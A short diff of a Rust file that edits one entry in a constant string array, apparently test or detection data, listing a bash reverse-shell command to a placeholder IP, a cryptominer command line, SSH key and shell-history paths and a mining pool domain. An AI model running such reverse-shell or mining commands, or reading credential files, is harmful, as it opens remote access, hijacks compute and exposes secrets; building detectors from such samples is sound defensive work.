@@ -30,7 +30,7 @@ const LINES: [&str; 9] = [
     "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
     "miner -a rx/0 -o pool.example:3333 -u x -p y",
     "/home/a/.ssh/id_rsa",
-    "/root/.bash_history",
+    "/home/a/.bash_history",
     "python3.13",
     "npm",
     "eu.nanopool.org",
